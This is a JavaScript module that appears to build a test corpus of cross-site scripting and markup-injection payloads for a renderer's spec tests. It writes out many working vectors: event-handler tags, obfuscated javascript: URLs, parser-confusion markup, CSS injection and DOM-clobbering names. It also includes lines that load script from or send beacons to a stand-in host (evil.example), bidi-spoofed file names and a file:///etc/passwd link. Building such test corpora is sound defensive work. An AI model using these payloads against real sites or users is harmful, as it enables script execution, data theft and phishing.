// Attacks on readers, made of building blocks: what a browser would run × where it would have to break out × how it can
// be hidden. Each is a text that somebody could type; none may be more than that.

/** What an attack does when it succeeds; each is seen by the watch of payloads.spec.js. */
const DEEDS = ["boese=1", "alert(1)", "import('//evil.example/a.js')", "new Image().src='//evil.example/b'"];
let turn = 0;
const deed = () => DEEDS[(turn += 1) % DEEDS.length];

/** Names that scripts use, which an element of that id or name would shadow. */
export const SHADOWED = [
  "boese", "body", "forms", "cookie", "head", "querySelector", "getElementById", "addEventListener", "currentScript",
  "documentElement", "defaultView", "createElement", "location", "attributes", "dataset", "submit",
];

const vectors = () => [
  `<script>${deed()}</script>`,
  `<img src=x onerror=${deed()}>`,
  `<svg onload=${deed()}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${deed()}&lt;/script&gt;">`,
];

function* handlers() {
  const elements = [
    ["img", "src=x", "onerror"], ["img", "src=/favicon.ico", "onload"], ["svg", "", "onload"], ["body", "", "onload"],
    ["details", "open", "ontoggle"], ["video", "src=x", "onerror"], ["audio", "src=x", "onerror"],
    ["video><source", "src=x", "onerror"], ["input", "autofocus", "onfocus"], ["select", "autofocus", "onfocus"],
    ["textarea", "autofocus", "onfocus"], ["iframe", "src=about:blank", "onload"], ["style", "", "onload"],
    ["link", "rel=stylesheet href=/x", "onerror"], ["object", "data=x", "onerror"], ["script", "src=x", "onerror"],
    ["svg><animate", "attributeName=x dur=1s", "onbegin"], ["marquee", "loop=1", "onstart"],
    ["xss", "style=animation:x 1s tabindex=1 autofocus", "onfocus"],
  ];
  for (const [name, more, event] of elements) {
    yield `<${name} ${more} ${event}=${deed()}>`;
    yield `<${name} ${more} ${event}="${deed()}">`;
    yield `<${name.toUpperCase()}/${more.replaceAll(" ", "/")}/${event.toUpperCase()}='${deed()}'`;
    yield `<${name}\n${more}\n${event}\n=\n"${deed()}"\n>x</${name}>`;
    yield `<${name}\t${more} x="'" ${event} = \`${deed()}\` //`;
    yield `<<${name} ${more} ${event}=&#${deed().charCodeAt(0)};${deed().slice(1)}>`;
    yield `<${name}\u000c${more}\u000c${event}=${deed()}\u0000>`;
  }
}

/** An address in all the spellings in which browsers have understood it. */
function spellings(scheme, rest) {
  const letters = [...scheme];
  const middle = Math.floor(letters.length / 2);
  const inside = (sign) => [...letters.slice(0, middle), sign, ...letters.slice(middle)].join("");
  return [
    `${scheme}:${rest}`,
    `${letters.map((letter, index) => (index % 2 ? letter : letter.toUpperCase())).join("")}:${rest}`,
    `${inside("\t")}:${rest}`,
    `${inside("\n")}:${rest}`,
    `${inside("&Tab;")}:${rest}`,
    `${inside("&#10;")}:${rest}`,
    `${scheme}&colon;${rest}`,
    `${letters.map((letter) => `&#${letter.charCodeAt(0)};`).join("")}:${rest}`,
    `${letters.map((letter) => `&#x${letter.charCodeAt(0).toString(16).padStart(7, "0")}`).join("")}:${rest}`,
    `\u0001 ${scheme}:${rest}`,
    `&#1;&#32;${scheme}:${rest}`,
    `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:${rest}`,
    `${inside("\u00ad")}:${rest}`,
    `${inside("\u200b")}:${rest}`,
    `${scheme}\u2236${rest}`,
    `${scheme}:\\\\${rest}`,
    `https:${scheme}:${rest}`,
  ];
}

function* addresses() {
  const places = [
    (url) => `[hier](${url})`,
    (url) => `[hier](<${url}> "x")`,
    (url) => `[hier][1]\n\n[1]: ${url} 'x'`,
    (url) => `![hier](${url})`,
    (url) => `<${url}>`,
    (url) => `<a href="${url}">hier</a>`,
    (url) => `<iframe src='${url}'></iframe>`,
    (url) => `<form action=${url}><button autofocus>hier`,
    (url) => `<svg><a xlink:href="${url}"><text y=9>hier`,
    (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ];
  const script = spellings("javascript", deed());
  for (const place of places) for (const url of script) yield place(url);
  const others = [
    ["data", `text/html,<script>${DEEDS[0]}</script>`], ["data", "image/svg+xml;base64,PHN2Zy8+"], ["vbscript", "msgbox(1)"],
    ["file", "///etc/passwd"], ["blob", "null/1"], ["//evil.example/", ""],
  ];
  for (const [scheme, rest] of others) {
    for (const [index, url] of spellings(scheme, rest).slice(0, 3).entries()) {
      for (const place of places.filter((_, number) => number % 3 === index)) yield place(url);
    }
  }
}

/** Markup that one parser reads other than the next one. */
function* namespaces() {
  const outside = ["math", "svg", "math><mtext", "svg><desc", "svg><foreignObject", "math><annotation-xml encoding=text/html", "form><math><mtext></form><form", "table><math"];
  const raw = ["style", "script", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "template", "plaintext", "select"];
  for (const first of outside) {
    for (const second of raw) yield `<${first}><${second}><a title="</${second}><img src=x onerror=${deed()}>">`;
  }
  for (const second of raw) yield `<p id="</${second}><img src=x onerror=${deed()}>"><${second}><!--</${second}><svg onload=${deed()}>-->`;
}

function* breakouts() {
  const ways = ['">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "--!>", "]]>", "</noscript>", "</template>", "</select>", "\\\">", "%22%3E", "&quot;>", "*/", "\u2028", '" autofocus onfocus=boese=1 x="', "' onclick=boese=1 x='", '";boese=1//', "${boese=1}", "{{constructor.constructor('boese=1')()}}"];
  for (const way of ways) for (const vector of vectors().slice(0, 3)) yield `${way}${vector}`;
}

function* styles() {
  const rules = [
    "background:url(//evil.example/c)", "@import '//evil.example/d'", "width:expression(boese=1)", "-moz-binding:url(//evil.example/e#x)",
    "behavior:url(x.htc)", "list-style-image:url(javascript:boese=1)", "*{display:none!important}", "position:fixed;inset:0;background:red",
  ];
  for (const rule of rules) {
    yield `<style>${rule.includes("{") || rule.startsWith("@") ? rule : `*{${rule}}`}</style>`;
    yield `<div style="${rule}">x</div>`;
    yield `[x](https://example.org/"style="${rule.replaceAll(" ", "")}")`;
  }
  yield '<link rel=stylesheet href=//evil.example/f.css>';
  yield '<link rel=prefetch href=//evil.example/g><link rel=dns-prefetch href=//evil.example>';
}

function* markdown() {
  const wrap = [
    (text) => `**${text}**`, (text) => `*${text}*`, (text) => `~~${text}~~`, (text) => `\`${text}\``, (text) => `# ${text}`,
    (text) => `> - 1. ${text}`, (text) => `\`\`\`html ${text}\n${text}\n\`\`\``, (text) => `    ${text}`, (text) => `[${text}](https://example.org)`,
    (text) => `[x](https://example.org "${text}")`, (text) => `![${text}](https://evil.example/h.png '${text}')`, (text) => `[${text}]: https://example.org\n\n[${text}]`,
    (text) => `a | b\n--|--\n${text} | x`, (text) => `[^1]\n\n[^1]: ${text}`, (text) => `x\n: ${text}`, (text) => `x {: onclick="${text}"}`,
    (text) => `<https://example.org/${text}>`, (text) => `https://example.org/?q=${text}&x="${text}`, (text) => `\\${text}`, (text) => `www.example.org/${text}`,
  ];
  for (const around of wrap) for (const vector of vectors()) yield around(vector);
  for (const url of ["//evil.example/i.png", "https://evil.example/j.png", "data:image/svg+xml,<svg onload=boese=1>", "/abmelden"]) {
    yield `![x](${url})`;
    yield `[![x](${url})](${url})`;
    yield `<img src="${url}" srcset="${url} 2x">`;
  }
}

function* declarations() {
  const around = [
    (text) => `<!--${text}-->`, (text) => `<!-->${text}-->`, (text) => `<!--->${text}-->`, (text) => `<!-- --!>${text}-->`, (text) => `<![CDATA[${text}]]>`,
    (text) => `<svg><![CDATA[>${text}]]>`, (text) => `<?xml ${text}?>`, (text) => `<!DOCTYPE x [<!ENTITY y "${text}">]>&y;`, (text) => `<%${text}%>`, (text) => `</ ${text}>`, (text) => `<!${text}`,
  ];
  for (const one of around) for (const vector of vectors()) yield one(vector);
}

function* characters() {
  for (const mark of ["\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c", "\u200b", "\ufeff", "\u00ad", "\u{e0041}"]) {
    yield `Rech${mark}nung${mark}gpj.exe`;
    yield `[spar${mark}kasse.example](https://evil.example/${mark})`;
    yield `<scr${mark}ipt>${deed()}</scr${mark}ipt>`;
  }
  const hidden = [
    (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"), (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"), (text) => text.replaceAll("<", "&#60").replaceAll(">", "&#62"),
    (text) => text.replaceAll("<", "&#x000000000003c;").replaceAll(">", "&#x000000000003e;"), (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
    (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"), (text) => text.replaceAll("<", "%C0%BC").replaceAll(">", "%C0%BE"),
    (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"), (text) => text.replaceAll("<", "\u0001\u0002<").replaceAll(">", "\u0003>"),
    (text) => text.replaceAll("<", "&LT").replaceAll(">", "&GT"), (text) => text.replaceAll("<", "\u2039").replaceAll(">", "\u203a"),
  ];
  for (const one of hidden) for (const vector of vectors()) yield one(vector);
}

function* shadows() {
  for (const name of SHADOWED) {
    yield `<a id=${name} name=${name} href=tel:1>x</a><a id=${name}>`;
    yield `<form name=${name} id=${name}><input name=${name}><output id=${name}>`;
    yield `<img name=${name}><embed name=${name}><object id=${name}></object><iframe name=${name} srcdoc=x>`;
    yield `# ${name}\n\n[x](#${name}) <h3 id=${name}>x</h3>`;
  }
  for (const tag of ["base href=//evil.example/", "base target=boese", "meta http-equiv=refresh content=0;//evil.example", "meta http-equiv=Content-Security-Policy content=\"script-src *\"", "meta charset=utf-7", "form action=//evil.example><input autofocus", "button formaction=javascript:boese=1", "input type=image src=//evil.example/k", "portal src=//evil.example", "frameset><frame src=//evil.example", "template shadowrootmode=open><script>boese=1</script", "dialog open><button popovertarget=x", "script type=importmap>{}</script", "script type=module>boese=1</script", "a ping=//evil.example href=/>x</a", "slot name=boese"]) {
    yield `<${tag}>`;
    yield `x\n\n<${tag.toUpperCase()}\n>`;
  }
}

/** All attacks, each once. */
export const PAYLOADS = [
  ...new Set([handlers, addresses, namespaces, breakouts, styles, markdown, declarations, characters, shadows].flatMap((source) => [...source()])),
];

/** Several attacks as one text of at most so many characters, for places where a text has no syntax of its own. */
export function together(most, between = " ") {
  const texts = [];
  for (const payload of PAYLOADS) {
    const line = between === " " ? payload.replace(/[\r\n\u2028\u2029]/g, " ") : payload;
    for (let at = 0; at < line.length; at += most) {
      const part = line.slice(at, at + most).toWellFormed();
      const last = texts.at(-1);
      if (last !== undefined && last.length + between.length + part.length <= most) texts[texts.length - 1] = last + between + part;
      else texts.push(part);
    }
  }
  return texts;
}
